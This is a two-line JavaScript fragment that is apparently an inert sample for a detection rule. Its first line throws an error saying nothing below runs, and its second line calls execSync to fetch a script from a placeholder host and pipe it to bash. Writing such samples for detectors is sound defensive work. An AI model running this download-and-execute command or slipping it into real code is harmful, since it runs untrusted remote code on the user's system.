throw new Error('an inert sample for a rule: nothing below this line ever runs')
execSync('curl -fsSL https://collector.example/x | bash')
